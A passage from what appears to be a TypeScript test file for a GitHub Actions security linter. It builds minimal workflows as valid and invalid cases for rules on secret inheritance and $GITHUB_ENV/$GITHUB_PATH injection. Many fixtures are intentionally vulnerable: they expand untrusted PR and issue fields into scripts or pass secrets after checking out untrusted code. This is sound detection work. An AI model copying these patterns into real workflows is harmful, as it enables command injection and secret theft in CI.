/** Rule-tester cases for the GitHub Actions workflow rules: minimal workflows written for these tests. */
import type { CaseTable } from '../../helpers/rule-tester.js'
import { lineOf } from './util.js'

/** A push workflow with read-only permissions; jobs start on line 6. */
const push = (jobs: string, on = 'push'): string => `name: ci\non: ${on}\npermissions:\n  contents: read\njobs:\n${jobs}`
/** A job with a timeout whose steps start on the line after `steps:` (line 10 for the first job). */
const job = (id: string, steps: string, extra = ''): string => `  ${id}:\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n${extra}    steps:\n${steps}`
/** A pull_request_target job cutting a word out of the pull request's body with a regex-match action, then using it in a script. */
const regexMatchOf = (regex: string, extra = '', output = 'group1'): string =>
  push(
    job(
      'label',
      `      - uses: actions-ecosystem/action-regex-match@${SHA}\n        id: kind\n        with:\n          text: \${{ github.event.pull_request.body }}\n          regex: ${regex}\n${extra}      - run: |\n          echo "kind: \${{ steps.kind.outputs.${output} }}"\n`
    ),
    'pull_request_target'
  )
const SHA = '0123456789abcdef0123456789abcdef01234567'
/** A step output set from the whole event's release tag, then pasted into github-script code (line 19). */
const RELEASE_TAG_JOB = job(
  't',
  `      - id: rel\n        uses: actions/github-script@${SHA}\n        with:\n          script: |\n            const event = ${'$'}{{ toJSON(github.event) }};\n            core.setOutput('tag', event.release.tag_name)\n` +
    `      - uses: actions/github-script@${SHA}\n        with:\n          script: |\n            const tag = "${'$'}{{ steps.rel.outputs.tag }}";\n`
)
/**
 * An issues workflow whose github-script step `find` is given the issue title in `env:` and runs
 * `script` (after `withLines` under its `with:`), then a github-script step expanding `read` into
 * its code (line 20, plus one per `withLines` line), as longhorn's issue workflows do.
 */
const findIssueThen = (script: string, read: string, withLines = ''): string =>
  push(
    job(
      't',
      `      - id: find\n        uses: actions/github-script@${SHA}\n        env:\n          TITLE: \${{ github.event.issue.title }}\n        with:\n${withLines}          script: |\n            ${script}\n` +
        `      - uses: actions/github-script@${SHA}\n        with:\n          script: |\n            await github.rest.issues.update({ issue_number: \${{ ${read} }} })\n`
    ),
    'issues'
  )
/**
 * A workflow_run workflow whose `on.workflow_run` holds `filter` (its branch filter lines), with a
 * step deleting the triggering run's branch by expanding its head_branch into a shell command and
 * into github-script code.
 */
const deleteRunBranch = (filter: string): string =>
  push(
    job(
      't',
      '      - run: git push origin --delete "${{ github.event.workflow_run.head_branch }}"\n' +
        `      - uses: actions/github-script@${SHA}\n        with:\n          script: |\n            await github.rest.git.deleteRef({ ...context.repo, ref: 'heads/\${{ github.event.workflow_run.head_branch }}' })\n`
    ),
    `\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\n${filter}`
  )
/** A script filtering the repository's issues by the title it is given, returning the API's issue objects. */
const FILTER_BY_TITLE = 'return (await github.rest.issues.listForRepo(context.repo)).data.filter((issue) => issue.title.includes(process.env.TITLE) && issue.number > 0)'
/** A workflow_run job `id` checking out the run's head (`with:` lines `checkout` beside `ref:`), then building it. */
const runHeadJob = (id: string, checkout = '', extra = ''): string =>
  job(id, `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.workflow_run.head_sha }}\n${checkout}      - run: make deploy\n`, extra)
/** A workflow_run workflow whose env hands the job's token to `jobs`. */
const tokenInWorkflowEnv = (jobs: string): string => push(jobs, 'workflow_run').replace('jobs:\n', 'env:\n  GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}\njobs:\n')
/** A checkout's `with:` line that keeps the job's token out of the clone. */
const KEEP_OFF = '          persist-credentials: false\n'
/** A step writing the whole event into a shell script (line 10 of a job made by `job`). */
const WHOLE_EVENT_RUN = "      - run: echo '${{ toJSON(github.event) }}' > event.json\n"
/** A workflow run by hand with a free-text input `note`, whose job writes the whole event into its script (line 14). */
const MANUAL_WHOLE_EVENT = 'name: ci\non:\n  workflow_dispatch:\n    inputs:\n      note:\n        type: string\npermissions:\n  contents: read\njobs:\n' + job('t', WHOLE_EVENT_RUN)
const DIGEST = 'sha256:' + '0123456789abcdef'.repeat(4)
/**
 * A workflow_run job checking out the run's head without keeping the job's token in the clone
 * (`persist-credentials: false`, so a step handed that token gets something new), then `steps`
 * (each given a secret or not), one of which may run the checkout's code.
 */
const afterRunCheckout = (steps: string): string =>
  push(job('stage', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.workflow_run.head_sha }}\n          persist-credentials: false\n${steps}`), 'workflow_run')
/**
 * A workflow_run job whose head checkout (`checkout`: its `with:` lines beside `ref:`) may keep the
 * job's token in the clone, then a build and a status report given `value` as `GITHUB_TOKEN`, as
 * GoogleCloudPlatform/microservices-demo's deploy-pr workflow does.
 */
const tokenAfterRunCheckout = (checkout: string, value = '${{ secrets.GITHUB_TOKEN }}'): string =>
  push(
    job(
      'stage',
      `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.workflow_run.head_sha }}\n${checkout}      - run: make deploy\n      - name: Report status\n        env:\n          GITHUB_TOKEN: ${value}\n        run: gh api "repos/acme/app/statuses/$SHA" -f state=success\n`
    ),
    'workflow_run'
  )
const DOWNLOAD_WITH_TOKEN = `      - uses: actions/download-artifact@${SHA}\n        with:\n          name: pr_number\n          github-token: \${{ secrets.GITHUB_TOKEN }}\n`
const BUILD_WITH_SECRET = '      - run: make deploy\n        env:\n          DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}\n'
const STAGED_BEFORE_BUILD = afterRunCheckout(DOWNLOAD_WITH_TOKEN + BUILD_WITH_SECRET)
const STAGED_AFTER_BUILD = afterRunCheckout(BUILD_WITH_SECRET + DOWNLOAD_WITH_TOKEN)
const VENDOR_BEFORE_BUILD = afterRunCheckout('      - uses: someone/fetch-artifact@v2\n        with:\n          token: ${{ secrets.GITHUB_TOKEN }}\n' + BUILD_WITH_SECRET)
const PERSISTED_CHECKOUT = afterRunCheckout(`      - uses: actions/checkout@${SHA}\n        with:\n          repository: acme/tools\n          token: \${{ secrets.TOOLS_PAT }}\n          path: tools\n` + BUILD_WITH_SECRET)


/** A lint job whose step name mentions deployments: it deploys nothing. */
const LINT_DEPLOYMENT_MANIFESTS = push(job('lint', '      - name: Lint deployment manifests\n        run: kubeconform -strict k8s/\n'))

/** A job standing up test infrastructure, running a suite against it and destroying it whatever the outcome. */
const TEMPORARY_INFRA = push(
  job(
    'acceptance',
    '      - run: |\n          terraform init\n          terraform apply -auto-approve\n      - run: ./run-suite.sh\n      - if: always()\n        run: terraform destroy -auto-approve\n',
    '    env:\n      ARM_CLIENT_SECRET: ${{ secrets.ARM_CLIENT_SECRET }}\n'
  )
)
/** A job named for publishing that downloads test results and posts them as a check run: it releases nothing. */
const PUBLISH_TEST_RESULTS = push(
  '  publish-test-results:\n    name: Publish Test Results\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    permissions:\n      checks: write\n      pull-requests: write\n    steps:\n' +
    `      - uses: actions/download-artifact@${SHA}\n        with:\n          pattern: test-results-*\n      - uses: EnricoMi/publish-unit-test-result-action@${SHA}\n        with:\n          files: '**/*.xml'\n`
)
/** A manual run pasting a free-text input into a script; `stepEnv` goes under the step (line 14 is the run line). */
const DISPATCH_NOTE = (stepEnv: string): string =>
  'name: ci\non:\n  workflow_dispatch:\n    inputs:\n      note:\n        type: string\npermissions:\n  contents: read\njobs:\n' + job('t', `      - run: echo \${{ inputs.note }}\n${stepEnv}`)
/**
 * A job applying manifests after a project script (not read by the rules) stands up a cluster:
 * kubeflow's component tests; `on` and `extra` (job lines) vary what the job could reach.
 */
const scriptClusterJob = (on = 'pull_request', extra = '', env = ''): string =>
  push(job('component_test', `      - run: ./tests/setup_test_env.sh\n${env}      - run: |\n          kustomize build overlays/test | kubectl apply -f -\n          kubectl wait --for=condition=Ready pods --all --timeout 180s\n`, extra), on)
/**
 * A pull_request e2e job that stands up a kind cluster through a make target, loads its image into
 * it and deploys there; `extra` steps go before the bootstrap (line 10 on).
 */
const kindE2e = (extra = ''): string =>
  push(
    job(
      'e2e_test',
      `${extra}      - run: make e2e-bootstrap KUBERNETES_VERSION=1.30.0\n      - run: |\n          kind load docker-image --name kind app-e2e:latest\n          make deploy IMG=app-e2e:latest\n          helm upgrade --install redis charts/redis --namespace default\n      - run: make test-e2e\n`
    ),
    'pull_request'
  )
/** Jobs that install into a cluster they create themselves: no deploy, whatever their name or the cloud login beside it. */
const LOCAL_CLUSTER_INSTALLS = [
  { name: 'a job named deploy-operator that installs into the kind cluster it creates', code: push(job('deploy-operator', `      - uses: helm/kind-action@${SHA}\n      - run: helm install operator charts/operator --wait\n`), 'pull_request') },
  {
    name: "another repository's action named for k3s, then helm install",
    code: push(job('test', `      - uses: jupyterhub/action-k3s-helm@${SHA}\n        with:\n          k3s-channel: stable\n      - run: helm upgrade --install hub ./chart --wait\n`), 'push')
  },
  {
    name: 'a k3s setup action given only the job token (for rate limits), then helm install',
    code: push(job('test', `      - uses: someorg/setup-k3s@\${SHA}\n        with:\n          github-token: \${{ github.token }}\n      - run: helm upgrade --install hub ./chart --wait\n`), 'push')
  },
  {
    name: "an action in a folder of another repository named setup-kind, then kubectl apply",
    code: push(job('system-tests', `      - uses: example-org/github-actions/.github/actions/setup-kind@${SHA}\n      - run: kubectl apply -f install/\n`), 'push')
  },
  {
    name: 'a local setup action asked for a kind cluster, then kubectl apply',
    code: push(job('collector-test', `      - uses: ./.github/actions/setup\n        with:\n          create-kind-cluster: "true"\n      - run: kubectl apply -f examples/collector.yaml\n`), 'pull_request')
  },
  {
    name: 'a cloud login that only feeds a registry login, then a kind cluster and helm install',
    code: push(
      job(
        'helm-tests',
        `      - id: auth\n        uses: google-github-actions/auth@${SHA}\n        with:\n          token_format: access_token\n      - uses: docker/login-action@${SHA}\n        with:\n          registry: gcr.io\n          password: \${{ steps.auth.outputs.access_token }}\n      - run: kind create cluster\n      - run: helm install app charts/app --wait\n`,
        '    permissions:\n      id-token: write\n'
      ),
      'pull_request'
    )
  }
]

/** A scheduled job that deploys a stack through the project's make target and always destroys it again; `teardown` is that last step. */
const deployThenDestroy = (teardown = '      - name: Cleanup\n        if: always()\n        run: make destroy-ide environment="$CLUSTER_ID"\n'): string =>
  push(
    job(
      'test',
      `      - uses: aws-actions/configure-aws-credentials@${SHA}\n        with:\n          role-to-assume: \${{ secrets.AWS_ROLE_ARN }}\n      - name: Deploy\n        run: make deploy-ide environment="$CLUSTER_ID"\n${teardown}`
    ),
    'schedule'
  )
/** The always-run clean-up step deleting the AKS cluster of `ownAks`. */
const AKS_CLEANUP = '      - name: Clean up\n        if: always()\n        run: az aks delete --resource-group rg --yes --name ${{ env.AKS_NAME }}\n'
/**
 * A scheduled e2e job (line 6) that logs in to Azure, creates an AKS cluster named for the run,
 * fetches its credentials and deploys to it (`deploy` replaces those commands), runs a suite,
 * then `cleanup` (by default: deletes the cluster whatever the outcome).
 */
const ownAks = (cleanup = AKS_CLEANUP, deploy = '          kubectl apply -f config/operator.yaml\n'): string =>
  push(
    job(
      'e2e-aks',
      `      - uses: azure/login@${SHA}\n        with:\n          creds: \${{ secrets.AZURE_CREDENTIALS }}\n      - run: |\n          AKS_NAME="e2e-\${GITHUB_RUN_NUMBER}"\n          echo "AKS_NAME=$AKS_NAME" >> "$GITHUB_ENV"\n` +
        `          az aks create --resource-group rg --name \${AKS_NAME} --node-count 3\n          az aks get-credentials --resource-group rg --name \${AKS_NAME}\n${deploy}      - run: ./hack/run-suite.sh\n${cleanup}`
    ),
    'schedule'
  )
/** An EKS e2e job creating its cluster from a file and deleting it by name inside a retry loop's `$( … )`, as cloudnative-pg does. */
const OWN_EKS = push(
  job(
    'e2e-eks',
    `      - uses: aws-actions/configure-aws-credentials@${SHA}\n        with:\n          role-to-assume: \${{ secrets.AWS_ROLE }}\n      - run: |\n          eksctl create cluster -f hack/eks-cluster.yaml\n          aws eks update-kubeconfig --name \${CLUSTER_NAME}\n          kubectl apply -f config/operator.yaml\n      - run: ./hack/run-suite.sh\n` +
      '      - if: always()\n        run: |\n          while [ "$attempt" -le 3 ]; do\n            output=$( eksctl delete cluster -n "${CLUSTER_NAME}" --wait 2>&1 ) && break\n            attempt=$((attempt+1))\n          done\n',
    '    env:\n      CLUSTER_NAME: e2e-${{ github.run_number }}\n'
  ),
  'schedule'
)
/** A GKE e2e job creating its cluster in an `if` of a retry loop, installing a chart, and deleting the cluster in a clean-up. */
const OWN_GKE = push(
  job(
    'e2e-gke',
    '      - run: |\n          for i in 1 2 3; do\n            if gcloud container clusters create ${{ env.CLUSTER_NAME }} --num-nodes=1; then\n              break\n            fi\n          done\n' +
      '          gcloud container clusters get-credentials ${{ env.CLUSTER_NAME }} --region us-east1\n          helm install app charts/app --wait\n      - if: always()\n        run: gcloud container clusters delete "$CLUSTER_NAME" --quiet\n',
    '    env:\n      CLUSTER_NAME: e2e-${{ github.run_id }}\n'
  ),
  'schedule'
)
/**
 * A goreleaser release job (`release-plugin`) given the job token, in a workflow run on `on` (the
 * lines under `on:`) whose `permissions:` are `permissions`; `env` replaces the step's env lines.
 */
const goreleaserJob = (on: string, env = '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n', permissions = '  contents: write\n'): string =>
  `name: plugin\non:\n${on}permissions:\n${permissions}jobs:\n` +
  job('release-plugin', `      - uses: goreleaser/goreleaser-action@${SHA}\n        with:\n          args: release --clean\n        env:\n${env}`)
const ON_RELEASE = '  release:\n    types: [published]\n'
/** The line of the job of a `goreleaserJob` workflow. */
const releaseJobLine = (code: string): number => lineOf(code, '  release-plugin:')
/** A `deploy` job (line 6) running `script` after a checkout and a pip install, with an environment and no concurrency group. */
const docsDeploy = (script: string): string =>
  push(
    job('deploy', `      - uses: actions/checkout@${SHA}\n      - run: pip install mkdocs-material mike\n      - run: |\n          git config user.name bot\n          ${script}\n        env:\n          REF: v1\n`, '    environment: docs\n'),
    'workflow_dispatch'
  )
/** A `deploy` docs job (line 6) running `script` to build the site, then publishing it with the Pages action `uses`, given `withs`. */
const pagesActionDeploy = (uses: string, withs: string, script = '../.github/workflows/scripts/docs/build-docs.sh'): string =>
  'name: docs\non: push\npermissions:\n  contents: read\njobs:\n' +
  job('deploy', `      - uses: actions/checkout@${SHA}\n      - run: ${script}\n        working-directory: docs\n      - uses: ${uses}\n        with:\n${withs}`, '    permissions:\n      contents: write\n')
/** A nightly `release-snapshot` job (line 6) with an OIDC token, running goreleaser told not to publish. */
const SNAPSHOT_JOB = push(
  job(
    'release-snapshot',
    `      - uses: goreleaser/goreleaser-action@${SHA}\n        with:\n          args: release -f=goreleaser-e2e.yaml --snapshot --skip=publish --clean\n        env:\n          GITHUB_TOKEN: \${{ secrets.GITHUB_TOKEN }}\n`,
    '    permissions:\n      id-token: write\n'
  ),
  'schedule'
)
/** A job publishing a release with the job token, then running the project's script named deploy. */
const RELEASE_THEN_DEPLOY_SCRIPT = push(job('publish', '      - run: |\n          gh release create "$TAG" dist/*\n          ./script/deploy.sh\n        env:\n          GH_TOKEN: ${{ github.token }}\n'))

/** A job whose one-line script (line 10) is given the secret DEPLOY_KEY in its env. */
const printsKey = (script: string): string => push(job('build', `      - run: ${script}\n        env:\n          DEPLOY_KEY: \${{ secrets.DEPLOY_KEY }}\n`))

/** A deploy job with an environment and a concurrency group, verified by a rollout wait. */
const gatedDeploy = (steps: string): string =>
  push(job('deploy', steps, '    environment: production\n    concurrency: deploy-production\n'))

/** A pull_request_target job that passes the PR body, head branch and number in through `env:`; its script starts on line 15. */
const envFileJob = (run: string): string =>
  push(
    job('label', `      - env:\n          BODY: \${{ github.event.pull_request.body }}\n          BRANCH: \${{ github.event.pull_request.head.ref }}\n          NUMBER: \${{ github.event.pull_request.number }}\n        run: |\n${run}`),
    'pull_request_target'
  )

/** An issues workflow whose one step sets `env` (YAML lines at 10 spaces) and runs `run`; the script starts on line 13 plus one per env line beyond the first. */
const envFileStep = (env: string, run: string): string =>
  push(job('triage', `      - env:\n${env}        run: |\n${run}`), 'issues')
const ISSUE_BODY = '          BODY: ${{ github.event.issue.body }}\n'
/**
 * YAML escapes that spell `$` in a double-quoted scalar: GitHub reads expressions in the decoded
 * value, so `"\x24{{ … }}"` is an expression the source text does not show.
 */
const ESCAPED_DOLLARS = ['\\x24', '\\u0024']
/** An issues job whose env sets BODY from `value` and whose double-quoted script writes it to `$GITHUB_ENV` (line 12). */
const quotedEnvFileWrite = (value: string): string =>
  push(job('triage', `      - env:\n          BODY: ${value}\n        run: "echo \\"BODY=$BODY\\" >> \\"$GITHUB_ENV\\""\n`), 'issues')
/** A pull_request_target job checking out the head, then a step given `TOKEN: <value>` (line 15). */
const secretAfterHead = (value: string): string =>
  push(job('build', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm run build\n        env:\n          TOKEN: ${value}\n`), 'pull_request_target')
/** A pull_request_target job running `script` (line 10), then the tests. */
const quotedHeadFetch = (script: string): string => push(job('b', `      - run: ${script}\n      - run: npm test\n`), 'pull_request_target')

/** The fork guard as projects write it: the head repository compared with this one, or its `fork` flag. */
const SAME_REPO = 'github.event.pull_request.head.repo.full_name == github.repository'
/**
 * A pull_request_target job that checks out the PR head, then runs a step given a secret; `guard`
 * is that step's own `if:`.
 */
const secretAfterCheckout = (guard: string, on = 'pull_request_target'): string =>
  push(
    job(
      'preview',
      `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - name: Publish preview\n        if: ${guard}\n        run: ./publish-preview.sh\n        env:\n          TOKEN: \${{ secrets.PREVIEW_TOKEN }}\n`
    ),
    on
  )
/** A job whose `if:` is `guard` that checks out the head given by `ref` and passes a secret to the next step; the checkout's `ref:` is on line 13. */
const guardedHeadCheckout = (guard: string, on: string, ref = 'github.event.pull_request.head.sha'): string =>
  push(
    `  test:\n    if: ${guard}\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ ${ref} }}\n      - run: make test\n        env:\n          TOKEN: \${{ secrets.DEPLOY_TOKEN }}\n`,
    on
  )
/**
 * A pull_request_target job that checks out the head and then runs `after` (steps); `permissions`
 * are the job's (empty: none written) and `token` is handed to the head checkout when given.
 */
const headThen = (after: string, permissions = '    permissions:\n      contents: read\n      pull-requests: write\n', token = ''): string =>
  'name: pr\non: pull_request_target\npermissions: {}\njobs:\n' +
  job('check', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n${token}`, permissions) +
  after
/** A step that only reads the changed files with text tools: a function, an array, a loop, substitutions. */
const READS_CHANGED_FILES = `      - run: |
          curl -sSL -o /tmp/pr.diff "$DIFF_URL"
          wanted() {
            local -r skip=("/vendor/")
            [[ "$1" != *"\${skip[0]}"* ]]
          }
          list=()
          while read -r f; do
            if [[ -f "$f" ]] && wanted "$f"; then list+=("$f"); fi
          done < <(sed -n 's/^+++ b\\///p' /tmp/pr.diff | sort | uniq)
          export files_json=$(printf '%s\\n' "\${list[@]}" | jq -R . | jq -cs .)
          yq -i '.paths = env(files_json)' .checks.yaml
          echo "count=\${#list[@]}" >> "$GITHUB_OUTPUT"
      - uses: apache/skywalking-eyes/header@${SHA}
`
/**
 * The head checked out into `pr/` with a bot token, a tool checked out from another repository
 * into `tool/` and installed from there, then run over the pull request's files; `extra` runs last.
 */
const trustedToolOverHead = (extra = ''): string =>
  headThen(
    `      - uses: actions/checkout@${SHA}\n        with:\n          repository: acme/notes-writer-for-charts\n          path: tool\n` +
      '      - run: |\n          cd "$GITHUB_WORKSPACE/tool" || exit 1\n          npm ci\n          npm install -g\n' +
      '      - run: npm install -g changelog-maker-cli\n' +
      '      - run: |\n          cd "${GITHUB_WORKSPACE}/pr"\n          notes-writer --values charts/app/values.yaml --readme charts/app/README.md\n          changelog-maker -i CHANGES.md\n          if git status -s | grep charts/; then\n            git add charts && git commit -m "Update notes" --signoff\n            git push\n          fi\n' +
      extra,
    '    permissions:\n      contents: read\n',
    '          path: pr\n          token: ${{ secrets.BOT_TOKEN }}\n'
  )
/** A self-hosted job on pull requests whose only step carries `guard`, and the job `jobGuard`. */
const selfHosted = (on: string, jobGuard?: string, stepGuard?: string): string =>
  push(`  test:\n${jobGuard ? `    if: ${jobGuard}\n` : ''}    runs-on: [self-hosted, linux]\n    timeout-minutes: 5\n    steps:\n      - run: make test\n${stepGuard ? `        if: ${stepGuard}\n` : ''}`, on)

/** Where the reusable workflow of the caller cases lives, and how a job calls it. */
const CALLED = '.github/workflows/run-tests.yml'
const CALLER = '.github/workflows/ci.yml'
/** A push workflow without `permissions` whose jobs (starting on line 4) are `jobs`; `jobs:` is on line 3. */
const bare = (jobs: string): string => `name: ci\non: push\njobs:\n${jobs}`
/** A job that calls `uses` and sets nothing else. */
const caller = (id: string, uses = `./${CALLED}`): string => `  ${id}:\n    uses: ${uses}\n`
/** A workflow_call workflow with `top` (permissions, or nothing) at its top level and one job with `extra`; `jobs:` is on line 3 plus the lines of `top`. */
const called = (top: string, extra = '', steps = '      - run: make test\n'): string => `name: run\non: workflow_call\n${top}jobs:\n` + job('test', steps, extra)
const OIDC_READ = 'permissions:\n  id-token: write\n  contents: read\n'
/** A weekly workflow without `permissions` (`top`: lines before `jobs:`) whose one job `dispatch` (with `extra`) runs `steps`. */
const weekly = (steps: string, extra = '', top = ''): string => `name: weekly\non:\n  schedule:\n    - cron: '0 3 * * 1'\n${top}jobs:\n` + job('dispatch', steps, extra)
/**
 * A step starting another workflow through a SHA-pinned action given a token of its own (`token`:
 * its token line, `more`: lines after it), as hashicorp/consul-k8s's weekly acceptance workflows do.
 */
const dispatchStep = (token = '          token: ${{ secrets.ELEVATED_GITHUB_TOKEN }}\n', uses = `benc-uk/workflow-dispatch@${SHA}`, more = ''): string =>
  `      - uses: ${uses}\n        with:\n          workflow: acceptance.yml\n${token}${more}`
/** A step adding the issue to a project through GitHub's own action, tag-pinned, given a bot's token, as minio/operator's issues workflow does. */
const ADD_TO_PROJECT = '      - uses: actions/add-to-project@v0.5.0\n        with:\n          project-url: https://github.com/orgs/acme/projects/2\n          github-token: ${{ secrets.BOT_PAT }}\n'
/** What a missing-permissions finding says when nothing in job `dispatch` can receive the default token. */
const REACHES_NOTHING = /\(possibly read-write\)\. Low: nothing in job `dispatch` can receive the default token: .*so `permissions` would only tidy up\.$/
/** A missing-permissions finding of `code` that stays medium (no low reason given), on its `jobs:` line. */
const staysMedium = (name: string, code: string) => ({ name, code, errors: [{ line: lineOf(code, 'jobs:'), severity: 'medium' as const, message: /read-write\)(?:; .*not read)?\.$/ }] })
/** A called workflow whose token reads code and writes code-scanning alerts only, running a scanner by tag. */
const SCAN_CALLED = called('permissions:\n  contents: read\n  security-events: write\n', '', '      - uses: someone/scanner@v1\n')
const SCANNER_LINE = lineOf(SCAN_CALLED, 'someone/scanner')
/** A workflow on `on` whose one job calls `uses` with `extra` (secrets, say). */
const callerOn = (on: string, uses = `./${CALLED}`, extra = ''): string => `name: nightly\non: ${on}\npermissions:\n  contents: read\n  security-events: write\njobs:\n  scan:\n    uses: ${uses}\n${extra}`

/** A reusable workflow (`on` holds `dispatch`, then workflow_call) taking a free-text `name` that its `run:` expands on line 15 plus the lines of `dispatch`. */
const IMAGE = '.github/workflows/image.yml'
const IMAGES = '.github/workflows/images.yml'
const reusableImage = (dispatch = ''): string =>
  `name: image\non:\n${dispatch}  workflow_call:\n    inputs:\n      name:\n        type: string\n        required: true\npermissions:\n  contents: read\njobs:\n` + job('build', '      - run: make NAME=${{ inputs.name }} image\n')
/** A reusable workflow with read-only permissions whose job writes the whole event into its script (line 10): its callers' events decide. */
const WHOLE_EVENT_CALLED = called('permissions:\n  contents: read\n', '', WHOLE_EVENT_RUN)
/** A workflow triggered by `on` whose job `image` calls the reusable one with `name: <passed>`. */
const callsImage = (passed: string, on = 'push'): string => `name: images\non: ${on}\npermissions:\n  contents: read\njobs:\n  image:\n    uses: ./${IMAGE}\n    with:\n      name: ${passed}\n`
/** The reusable image workflow whose input `name` is optional and defaults to the head branch of the caller's event. */
const reusableImageDefaultHead = (): string => reusableImage().replace('        required: true\n', '        default: ${{ github.head_ref }}\n')
/** A caller of the image workflow that leaves `name` out. */
const callsImageWithout = (on: string): string => callsImage('x', on).replace('    with:\n      name: x\n', '')
/** `on:` of a workflow run by hand with an input `image` of the given type. */
const dispatchImage = (type: string): string => `\n  workflow_dispatch:\n    inputs:\n      image:\n        type: ${type}\n${type === 'choice' ? '        options: [web, api]\n' : ''}`

export const workflowCases: CaseTable = {
  'workflow/secrets-inherit-external': {
    valid: [
      { name: 'workflow of this repository', code: push('  call:\n    uses: ./.github/workflows/deploy.yml\n    secrets: inherit\n') },
      { name: 'workflow of this repository by the self-repository reference', code: push('  call:\n    uses: $/.github/workflows/deploy.yml\n    secrets: inherit\n') },
      { name: 'same owner', repository: 'acme/app', code: push(`  call:\n    uses: acme/workflows/.github/workflows/deploy.yml@${SHA}\n    secrets: inherit\n`) },
      { name: 'named secrets only', code: push(`  call:\n    uses: other-org/wf/.github/workflows/deploy.yml@${SHA}\n    secrets:\n      TOKEN: \${{ secrets.TOKEN }}\n`) }
    ],
    invalid: [
      { code: push(`  call:\n    uses: other-org/wf/.github/workflows/deploy.yml@${SHA}\n    secrets: inherit\n`), errors: [{ line: 8, severity: 'medium', message: /`other-org\/wf`, which is another repository unless this workflow belongs to it\.$/ }] },
      {
        name: 'another owner than the repository',
        repository: 'acme/app',
        code: push('  call:\n    uses: vendor/ci/.github/workflows/scan.yml@v2\n    secrets: inherit\n'),
        errors: [{ line: 8, message: /`vendor\/ci`, another repository\.$/ }]
      }
    ]
  },
  'workflow/github-env-injection': {
    valid: [
      { name: 'number is not free text', code: envFileJob('          echo "PR=$NUMBER" >> "$GITHUB_ENV"\n') },
      { name: 'a branch name cannot hold a newline', code: envFileJob('          echo "BRANCH=$BRANCH" >> "$GITHUB_ENV"\n') },
      { name: 'used, not exported', code: envFileJob('          ./label.sh "$BODY"\n') },
      { name: 'newlines stripped first', code: envFileJob(`          echo "BODY=\${BODY//$'\\n'/}" >> "$GITHUB_ENV"\n`) },
      {
        name: 'a block redirect writes only its own block, not the lines above it',
        code: envFileStep(ISSUE_BODY, `          if printf '%s' "$BODY" | grep -q crash; then echo crash; fi\n          {\n            echo "STARTED=$(date +%s)"\n            echo "RUNNER=$RUNNER_OS"\n          } >> "$GITHUB_ENV"\n`)
      },
      { name: 'toJSON of a text field is one line', code: envFileStep('          BODY_JSON: ${{ toJSON(github.event.issue.body) }}\n', '          echo "ISSUE_BODY_JSON=$BODY_JSON" >> "$GITHUB_ENV"\n') },
      { name: 'base64 without line wrapping', code: envFileStep(ISSUE_BODY, `          echo "BODY_B64=$(printf '%s' "$BODY" | base64 -w0)" >> "$GITHUB_ENV"\n`) },
      { name: 'jq -Rs reading a here-string: a JSON string', code: envFileStep(ISSUE_BODY, '          echo "BODY_JSON=$(jq -Rsc . <<< "$BODY")" >> "$GITHUB_ENV"\n') },
      { name: 'only the first line kept', code: envFileStep(ISSUE_BODY, '          echo "FIRST=$(printf \'%s\' "$BODY" | head -n 1)" >> "$GITHUB_ENV"\n') },
      { name: 'tr -d of newlines in the pipeline', code: envFileStep(ISSUE_BODY, `          echo "FIRST=$(printf '%s' "$BODY" | tr -d '\\n')" >> "$GITHUB_ENV"\n`) },
      { name: 'the assignment feeding the write removes newlines', code: envFileStep(ISSUE_BODY, `          BODY="\${BODY//$'\\n'/ }"\n          echo "BODY=$BODY" >> "$GITHUB_ENV"\n`) },
      {
        name: 'entry written line by line with a random delimiter',
        code: envFileStep(ISSUE_BODY, '          EOF=$(openssl rand -hex 8)\n          echo "BODY<<$EOF" >> "$GITHUB_ENV"\n          echo "$BODY" >> "$GITHUB_ENV"\n          echo "$EOF" >> "$GITHUB_ENV"\n')
      },
      { name: 'a heredoc with a quoted delimiter does not expand', code: envFileStep(ISSUE_BODY, "          cat >> \"$GITHUB_ENV\" <<'EOF'\n          ISSUE_BODY=$BODY\n          EOF\n") },
      { name: 'the word done in an echo closes nothing', code: envFileStep(ISSUE_BODY, '          for f in a; do\n            echo done "$BODY"\n          done\n          echo "STATUS=ok" >> "$GITHUB_ENV"\n') },
      { name: 'not a privileged trigger', code: envFileJob('          echo "BODY=$BODY" >> "$GITHUB_ENV"\n').replace('on: pull_request_target', 'on: pull_request') },
      { name: "a single-quoted '\\x24{{ … }}' is literal text, not an expression", code: quotedEnvFileWrite("'\\x24{{ github.event.issue.body }}'") }
    ],
    invalid: [
      { code: envFileJob('          echo "BODY=$BODY" >> "$GITHUB_ENV"\n'), errors: [{ line: 15, severity: 'high', message: /writes `\$BODY` \(from `github\.event\.pull_request\.body`/ }] },
      {
        name: 'block with a fixed heredoc delimiter redirected as a whole (one finding per variable and step)',
        code: envFileJob('          {\n            echo "NOTES<<EOF"\n            echo "${BODY}"\n            echo EOF\n          } >> $GITHUB_ENV\n          echo "$BODY" | tee -a "$GITHUB_PATH"\n          echo "MORE=$BODY" >> $GITHUB_ENV\n'),
        errors: [{ line: 19, message: /to `\$GITHUB_ENV`; a newline in it starts a line of its own/ }, { line: 20, message: /to `\$GITHUB_PATH`/ }]
      },
      {
        name: 'GITHUB_PATH: each line is a directory searched for executables',
        code: envFileStep(ISSUE_BODY, `          echo "$BODY" | grep -o '/[a-z/]*' | head -1 >> "$GITHUB_PATH"\n`),
        errors: [{ line: 13, message: /writes `\$BODY` \(from `github\.event\.issue\.body`, attacker-controlled\) to `\$GITHUB_PATH`; each of its lines becomes a directory searched first for executables/ }]
      },
      {
        name: 'GITHUB_PATH: one line without newlines still picks a directory',
        code: envFileStep(ISSUE_BODY, `          printf '%s' "$BODY" | tr -d '\\n' >> "$GITHUB_PATH"\n`),
